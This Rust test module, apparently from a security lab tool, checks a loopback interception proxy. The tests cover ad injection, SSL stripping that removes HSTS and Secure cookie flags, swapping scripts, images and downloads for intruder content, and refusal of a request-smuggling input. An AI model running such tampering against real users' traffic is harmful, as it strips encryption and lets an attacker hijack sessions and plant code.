/// site on 127.0.0.1 writes its answer in the pieces a test chooses, the proxy serves a
/// client on another loopback socket, and the client reads what the visitor would get.
#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use std::path::PathBuf;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio::net::TcpListener;

    const AD: &str = "<div id=\"plainsight-ad\">AD</div>";

    #[test]
    fn downgrade_holds_https_across_every_split() {
        let text = "<a href=\"https://clinic.test/caf\u{e9}\">h https:/ https://x</a>".as_bytes();
        let want = "<a href=\"http://clinic.test/caf\u{e9}\">h https:/ http://x</a>".as_bytes();
        for cut in 0..=text.len() {
            let mut d = Downgrade::default();
            let mut out = d.feed(&text[..cut]);
            out.extend(d.feed(&text[cut..]));
            out.extend(d.end());
            assert_eq!(out, want, "split at {cut}");
        }
    }

    /// A site that answers one request with `head`, then `pieces` written apart; over TLS
    /// when `tls` is given.
    async fn site(tls: Option<tokio_rustls::TlsAcceptor>, head: String, pieces: Vec<Vec<u8>>) -> SocketAddr {
        let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        tokio::spawn(async move {
            let (s, _) = l.accept().await.unwrap();
            async fn answer<S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin>(
                mut s: S,
                head: String,
                pieces: Vec<Vec<u8>>,
            ) {
                let mut req = Vec::new();
                let mut buf = [0u8; 4096];
                while !req.windows(4).any(|w| w == b"\r\n\r\n") {
                    let n = s.read(&mut buf).await.unwrap();
                    assert!(n > 0, "the proxy closed before its request ended");
                    req.extend_from_slice(&buf[..n]);
                }
                s.write_all(head.as_bytes()).await.unwrap();
                for p in pieces {
                    s.flush().await.unwrap();
                    tokio::time::sleep(Duration::from_millis(3)).await;
                    s.write_all(&p).await.unwrap();
                }
                s.flush().await.unwrap();
                let _ = s.shutdown().await;
            }
            match tls {
                Some(acceptor) => answer(acceptor.accept(s).await.unwrap(), head, pieces).await,
                None => answer(s, head, pieces).await,
            }
        });
        addr
    }

    /// A CA file for contexts whose upstream is plain HTTP (the connector needs one).
    fn plain() -> PathBuf {
        static CA: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
        CA.get_or_init(|| {
            let p = std::env::temp_dir().join(format!("ps-plain-ca-{}.pem", std::process::id()));
            std::fs::write(&p, crate::lab::pki::Ca::generate("unused").unwrap().cert_pem).unwrap();
            p
        })
        .clone()
    }

    fn context(tls: TlsMode, upstream_ca: PathBuf) -> Arc<Ctx> {
        let opts = super::super::InjectOptions {
            tls,
            trusted_mitm: false,
            ad: AD.into(),
            http_port: 0,
            tls_port: 0,
            lan_if: "lo".into(),
            upstream_ca: upstream_ca.clone(),
            ca_out: None,
            redirect: false,
            table: "unused".into(),
            reveal: false,
            ready_file: None,
            idle_timeout: Duration::from_secs(60),
            resources: false,
        };
        let upstream_tls = tokio_rustls::TlsConnector::from(Arc::new(
            crate::lab::pki::client_config(&[upstream_ca.as_path()]).unwrap(),
        ));
        Arc::new(Ctx {
            opts,
            intruder_ca: crate::lab::pki::Ca::generate("test intruder CA").unwrap(),
            upstream_tls,
            pool: Pool::default(),
        })
    }

    /// A site that answers every request on every connection with a small page, and
    /// counts the connections it accepted.
    async fn keep_alive_site() -> (SocketAddr, Arc<std::sync::atomic::AtomicUsize>) {
        keep_alive_site_ending(None).await
    }

    /// A site that keeps connections alive; with `last`, each connection's second request
    /// gets `last` (a 408, or nothing) and the connection closes: a site giving up on an
    /// idle kept connection just as a request arrives on it.
    async fn keep_alive_site_ending(last: Option<&'static [u8]>) -> (SocketAddr, Arc<std::sync::atomic::AtomicUsize>) {
        let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        let accepted = Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let count = accepted.clone();
        tokio::spawn(async move {
            loop {
                let (mut s, _) = l.accept().await.unwrap();
                count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                tokio::spawn(async move {
                    let mut req = Vec::new();
                    let mut buf = [0u8; 4096];
                    let mut answered = 0;
                    loop {
                        while let Some(end) = req.windows(4).position(|w| w == b"\r\n\r\n") {
                            req.drain(..end + 4);
                            if let Some(last) = last.filter(|_| answered == 1) {
                                let _ = s.write_all(last).await;
                                return;
                            }
                            answered += 1;
                            let page = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok";
                            if s.write_all(page.as_bytes()).await.is_err() {
                                return;
                            }
                        }
                        match s.read(&mut buf).await {
                            Ok(n) if n > 0 => req.extend_from_slice(&buf[..n]),
                            _ => return,
                        }
                    }
                });
            }
        });
        (addr, accepted)
    }

    /// A visitor connection as `connection` serves it (idle limit, 408, linger), without
    /// the interception: the proxy listens on loopback and forwards to `dst`.
    async fn proxy_for(ctx: Arc<Ctx>, dst: SocketAddr) -> SocketAddr {
        let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        tokio::spawn(async move {
            loop {
                let (s, peer) = l.accept().await.unwrap();
                tokio::spawn(visitor(s, peer.to_string(), dst, ctx.clone(), Some(Upstream::Plain)));
            }
        });
        addr
    }

    /// Writes `request` and reads the answer until the proxy closes (at most 10 s).
    async fn ask(proxy: SocketAddr, request: &[u8]) -> (Vec<u8>, Duration) {
        let started = std::time::Instant::now();
        let mut c = TcpStream::connect(proxy).await.unwrap();
        c.write_all(request).await.unwrap();
        let mut answer = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(10), c.read_to_end(&mut answer)).await;
        (answer, started.elapsed())
    }

    #[test]
    fn site_connections_are_reused_by_the_next_visitor_connection() {
        rt().block_on(async {
            let (dst, accepted) = keep_alive_site().await;
            let ctx = context(TlsMode::Passthrough, plain());
            let proxy = proxy_for(ctx.clone(), dst).await;
            for i in 0..20 {
                let (answer, _) = ask(proxy, GET).await;
                assert!(
                    answer.starts_with(b"HTTP/1.1 200") && answer.ends_with(b"ok"),
                    "visit {i}: {:?}",
                    String::from_utf8_lossy(&answer)
                );
            }
            assert_eq!(
                accepted.load(std::sync::atomic::Ordering::SeqCst),
                1,
                "twenty visitor connections, one site connection"
            );
            assert_eq!(ctx.pool.idle(), 1);
        });
    }

    #[test]
    fn a_kept_site_connection_that_ends_as_it_is_taken_costs_the_visitor_nothing() {
        rt().block_on(async {
            let get = b"GET / HTTP/1.1\r\nHost: clinic.test\r\nConnection: close\r\n\r\n";
            let post = b"POST /login HTTP/1.1\r\nHost: clinic.test\r\nContent-Length: 1\r\nConnection: close\r\n\r\nx";
            for last in [crate::lab::conn::REQUEST_TIMEOUT, b""] {
                let (dst, accepted) = keep_alive_site_ending(Some(last)).await;
                let ctx = context(TlsMode::Passthrough, plain());
                let proxy = proxy_for(ctx.clone(), dst).await;
                // The first visit leaves the site connection in the pool; the second takes
                // it, the site ends it, and the request goes again on a fresh one.
                for visit in 0..2 {
                    let (answer, _) = ask(proxy, get).await;
                    let text = String::from_utf8_lossy(&answer);
                    assert!(
                        text.starts_with("HTTP/1.1 200") && text.ends_with("ok"),
                        "site ends with {:?}, visit {visit}: {text:?}",
                        String::from_utf8_lossy(last)
                    );
                }
                assert_eq!(accepted.load(std::sync::atomic::Ordering::SeqCst), 2, "the request went again once");
                // A request that is not idempotent is never sent twice.
                let _ = ask(proxy, get).await;
                let (answer, _) = ask(proxy, post).await;
                let text = String::from_utf8_lossy(&answer);
                let expected = if last.is_empty() { "HTTP/1.1 502" } else { "HTTP/1.1 408" };
                assert!(
                    text.starts_with(expected),
                    "POST after the site ended with {:?}: {text:?}",
                    String::from_utf8_lossy(last)
                );
            }
        });
    }

    #[test]
    fn a_stalled_request_is_answered_408_within_the_idle_limit() {
        rt().block_on(async {
            let (dst, _) = keep_alive_site().await;
            let mut ctx = context(TlsMode::Passthrough, plain());
            Arc::get_mut(&mut ctx).unwrap().opts.idle_timeout = Duration::from_millis(700);
            let proxy = proxy_for(ctx, dst).await;
            // A head, a form (read whole by the proxy), a chunked body (streamed to the
            // site, which answers this one without reading it).
            let stalls: [(&[u8], &str); 3] = [
                (b"GET / HTTP/1.1\r\nHost: clinic.test\r\nX-Slow: ", "HTTP/1.1 408"),
                (b"POST /login HTTP/1.1\r\nHost: clinic.test\r\nContent-Length: 1000\r\n\r\nusername=", "HTTP/1.1 408"),
                (
                    b"POST /login HTTP/1.1\r\nHost: clinic.test\r\nTransfer-Encoding: chunked\r\n\r\n100000000000000",
                    "HTTP/1.1 200",
                ),
            ];
            for (request, status) in stalls {
                let (answer, took) = ask(proxy, request).await;
                let text = String::from_utf8_lossy(&answer);
                assert!(text.starts_with(status), "{:?}: {text:?}", String::from_utf8_lossy(request));
                // The limit, and the linger after the answer, at most.
                assert!(took < Duration::from_secs(4), "{:?} took {took:?}", String::from_utf8_lossy(request));
            }
            // Silence from the start: closed, no request to answer.
            let (answer, took) = ask(proxy, b"").await;
            assert!(answer.is_empty() && took < Duration::from_secs(4), "{answer:?} after {took:?}");
            // Idle after an answered request (kept alive): closed without a 408, which
            // would answer the next request the visitor sent on it just then.
            let (answer, took) = ask(proxy, b"GET / HTTP/1.1\r\nHost: clinic.test\r\n\r\n").await;
            let text = String::from_utf8_lossy(&answer);
            assert!(text.starts_with("HTTP/1.1 200") && text.matches("HTTP/1.1").count() == 1, "{text:?}");
            assert!(took < Duration::from_secs(4), "kept-alive connection open for {took:?}");
        });
    }

    /// Sends `request` to the proxy in `writes` pieces; returns everything it answered.
    async fn through(ctx: Arc<Ctx>, upstream: Upstream, dst: SocketAddr, request: &[u8], writes: usize) -> Vec<u8> {
        let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        let proxy = tokio::spawn(async move {
            let (s, peer) = l.accept().await.unwrap();
            let linger = crate::lab::conn::Linger::keep(&s);
            serve(TokioIo::new(s), peer.to_string(), dst, upstream, ctx).await;
            linger.close().await;
        });
        let mut c = TcpStream::connect(addr).await.unwrap();
        let _ = c.set_nodelay(true);
        for piece in request.chunks(request.len().div_ceil(writes.max(1))) {
            c.write_all(piece).await.unwrap();
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
        let mut answer = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(10), c.read_to_end(&mut answer)).await;
        drop(c);
        let _ = proxy.await;
        answer
    }

    /// The body of an HTTP/1.1 answer, de-chunked.
    fn body(answer: &[u8]) -> (String, Vec<u8>) {
        let end = answer.windows(4).position(|w| w == b"\r\n\r\n").expect("a head") + 4;
        let head = String::from_utf8_lossy(&answer[..end]).to_ascii_lowercase();
        let mut rest = &answer[end..];
        if !head.contains("transfer-encoding: chunked") {
            return (head, rest.to_vec());
        }
        let mut out = Vec::new();
        loop {
            let line_end = rest.windows(2).position(|w| w == b"\r\n").expect("a chunk size");
            let size = usize::from_str_radix(std::str::from_utf8(&rest[..line_end]).unwrap().trim(), 16).unwrap();
            if size == 0 {
                return (head, out);
            }
            out.extend_from_slice(&rest[line_end + 2..line_end + 2 + size]);
            rest = &rest[line_end + 2 + size + 2..];
        }
    }

    fn chunked(pieces: &[&[u8]]) -> Vec<Vec<u8>> {
        let mut v: Vec<Vec<u8>> =
            pieces.iter().map(|p| [format!("{:x}\r\n", p.len()).as_bytes(), p, b"\r\n"].concat()).collect();
        v.push(b"0\r\n\r\n".to_vec());
        v
    }

    fn rt() -> tokio::runtime::Runtime {
        tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap()
    }

    const GET: &[u8] = b"GET / HTTP/1.1\r\nHost: clinic.test\r\nConnection: close\r\n\r\n";

    #[test]
    fn injects_across_chunk_boundaries_in_plain_gzip_and_brotli_pages() {
        let page =
            b"<html><head><title>T</title></head><body class=\"x\"><p>hello caf\xc3\xa9</p></body></html>".to_vec();
        let gz = {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(&page).unwrap();
            e.finish().unwrap()
        };
        let br = {
            let mut w = brotli::CompressorWriter::new(Vec::new(), 4096, 5, 22);
            w.write_all(&page).unwrap();
            w.into_inner()
        };
        let rt = rt();
        for (enc, body_bytes) in [("identity", page.clone()), ("gzip", gz), ("br", br)] {
            // Pieces of 7 bytes: tags, the gzip header and the multi-byte character all split.
            let pieces: Vec<&[u8]> = body_bytes.chunks(7).collect();
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: {enc}\r\nTransfer-Encoding: chunked\r\n\r\n"
            );
            let answer = rt.block_on(async {
                let dst = site(None, head, chunked(&pieces)).await;
                through(context(TlsMode::Passthrough, plain()), Upstream::Plain, dst, GET, 1).await
            });
            let (h, b) = body(&answer);
            assert!(h.starts_with("http/1.1 200"), "{enc}: {h}");
            assert!(!h.contains("content-encoding"), "{enc}: the page goes out decoded: {h}");
            let b = String::from_utf8(b).expect("whole characters");
            assert!(b.contains(&format!("<body class=\"x\">{AD}")), "{enc}: {b}");
            assert!(b.contains("hello caf\u{e9}"), "{enc}: {b}");
        }
    }

    #[test]
    fn with_resources_scripts_images_and_downloads_are_tampered_with() {
        let rt = rt();
        let with_resources = |on: bool| {
            let c = context(TlsMode::Passthrough, plain());
            let mut opts = c.opts.clone();
            opts.resources = on;
            Arc::new(Ctx {
                opts,
                intruder_ca: crate::lab::pki::Ca::generate("test intruder CA").unwrap(),
                upstream_tls: c.upstream_tls.clone(),
                pool: Pool::default(),
            })
        };
        let gz = |b: &[u8]| {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(b).unwrap();
            e.finish().unwrap()
        };
        let cases: [(&str, &str, Vec<u8>, &[u8]); 3] = [
            ("application/javascript\r\nContent-Encoding: gzip", "/app.js", gz(b"var a=1;"), b"var a=1;"),
            ("image/png", "/logo.png", b"\x89PNG....".to_vec(), b""),
            ("application/octet-stream", "/download/app.sh", b"#!/bin/sh\necho real\n".to_vec(), b""),
        ];
        for (ct, path, sent, starts) in cases {
            let head = format!("HTTP/1.1 200 OK\r\nContent-Type: {ct}\r\nContent-Length: {}\r\n\r\n", sent.len());
            let request = format!("GET {path} HTTP/1.1\r\nHost: clinic.test\r\nConnection: close\r\n\r\n");
            for on in [false, true] {
                let answer = rt.block_on(async {
                    let dst = site(None, head.clone(), vec![sent.clone()]).await;
                    through(with_resources(on), Upstream::Plain, dst, request.as_bytes(), 1).await
                });
                let (h, b) = body(&answer);
                assert!(h.starts_with("http/1.1 200"), "{path}: {h}");
                if !on {
                    assert_eq!(b, sent, "{path}: untouched without --resources");
                    continue;
                }
                assert!(!h.contains("content-encoding"), "{path}: {h}");
                assert!(h.contains(&format!("content-length: {}", b.len())), "{path}: {h}");
                match path {
                    "/app.js" => assert!(
                        b.starts_with(starts) && b.ends_with(super::super::inject::SCRIPT_PAYLOAD.as_bytes()),
                        "{}",
                        String::from_utf8_lossy(&b)
                    ),
                    "/logo.png" => assert!(
                        b == super::super::inject::INTRUDER_IMAGE.as_bytes()
                            && h.contains("content-type: image/svg+xml"),
                        "{h}"
                    ),
                    _ => assert_eq!(b, super::super::inject::STAND_IN.as_bytes()),
                }
            }
        }
    }

    #[test]
    fn strip_downgrades_links_split_across_chunks_and_keeps_characters_whole() {
        let dir = std::env::temp_dir().join(format!("ps-strip-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let ca = crate::lab::pki::Ca::generate("test site CA").unwrap();
        let leaf = ca.issue(&["clinic.test"]).unwrap();
        for (name, pem) in [("ca.pem", &ca.cert_pem), ("site.pem", &leaf.cert_pem), ("site.key", &leaf.key_pem)] {
            std::fs::write(dir.join(name), pem).unwrap();
        }
        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(
            crate::lab::pki::server_config(&dir.join("site.pem"), &dir.join("site.key"), false).unwrap(),
        ));
        let pieces: [&[u8]; 3] =
            [b"<html><body><p>x</p><a href=\"htt", b"ps://clinic.test/caf\xc3", b"\xa9\">https://</a></body></html>"];
        let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nStrict-Transport-Security: max-age=31536000\r\nSet-Cookie: session=abc; Secure; HttpOnly\r\nTransfer-Encoding: chunked\r\n\r\n".to_string();
        let answer = rt().block_on(async {
            let dst = site(Some(acceptor), head, chunked(&pieces)).await;
            through(context(TlsMode::Strip, dir.join("ca.pem")), Upstream::Tls(String::new()), dst, GET, 1).await
        });
        std::fs::remove_dir_all(&dir).unwrap();
        let (h, b) = body(&answer);
        assert!(h.starts_with("http/1.1 200"), "{h}");
        assert!(!h.contains("strict-transport-security"), "HSTS stripped: {h}");
        assert!(h.contains("set-cookie: session=abc; httponly") && !h.contains("secure"), "Secure dropped: {h}");
        let b = String::from_utf8(b).expect("whole characters, no U+FFFD");
        assert!(b.contains("<a href=\"http://clinic.test/caf\u{e9}\">http://</a>"), "{b}");
        assert!(!b.contains("https://") && !b.contains('\u{fffd}'), "{b}");
        assert!(b.contains(AD), "{b}");
    }

    /// A request the proxy must refuse is always answered, however slowly it arrives and
    /// whatever follows it: never an empty reply (lingering close).
    #[test]
    fn hostile_requests_are_always_answered() {
        let smuggle: &[u8] = b"POST /login HTTP/1.1\r\nHost: clinic.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /account HTTP/1.1\r\nHost: clinic.test\r\n\r\n";
        let big = format!("GET / HTTP/1.1\r\nHost: clinic.test\r\nX-Big: {}\r\n\r\n", "a".repeat(40_000));
        let rt = rt();
        for round in 0..20 {
            let answer = rt.block_on(async {
                let dst = site(None, "HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n".into(), vec![]).await;
                through(context(TlsMode::Passthrough, plain()), Upstream::Plain, dst, smuggle, 12).await
            });
            assert!(
                answer.starts_with(b"HTTP/1.1 4") || answer.starts_with(b"HTTP/1.1 502"),
                "round {round}: {:?}",
                String::from_utf8_lossy(&answer)
            );
            let answer = rt.block_on(async {
                let dst = site(None, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n".into(), vec![]).await;
                through(context(TlsMode::Passthrough, plain()), Upstream::Plain, dst, big.as_bytes(), 12).await
            });
            assert!(
                answer.starts_with(b"HTTP/1.1 431"),
                "round {round}: {:?}",
                String::from_utf8_lossy(&answer[..answer.len().min(200)])
            );
        }
    }

    /// A request whose body stalls, and a connection that never says anything, are closed
    /// once nothing moved for the idle limit (here 300 ms; 60 s by default).
    #[test]
    fn stalled_and_silent_connections_are_closed() {
        rt().block_on(async {
            let dst = site(None, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n".into(), vec![]).await;
            for opening in [&b"POST /login HTTP/1.1\r\nHost: clinic.test\r\nContent-Length: 1000\r\n\r\nuser"[..], b""]
            {
                let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
                let addr = l.local_addr().unwrap();
                let ctx = context(TlsMode::Passthrough, plain());
                let proxy = tokio::spawn(async move {
                    let (s, peer) = l.accept().await.unwrap();
                    let s = crate::lab::conn::idle_limited(s, Duration::from_millis(300));
                    serve(TokioIo::new(s), peer.to_string(), dst, Upstream::Plain, ctx).await;
                });
                let mut c = TcpStream::connect(addr).await.unwrap();
                c.write_all(opening).await.unwrap();
                let mut rest = Vec::new();
                let closed = tokio::time::timeout(Duration::from_secs(10), c.read_to_end(&mut rest)).await;
                assert!(closed.is_ok(), "{:?}: still open after 10 s", String::from_utf8_lossy(opening));
                proxy.await.unwrap();
            }
        });
    }
}
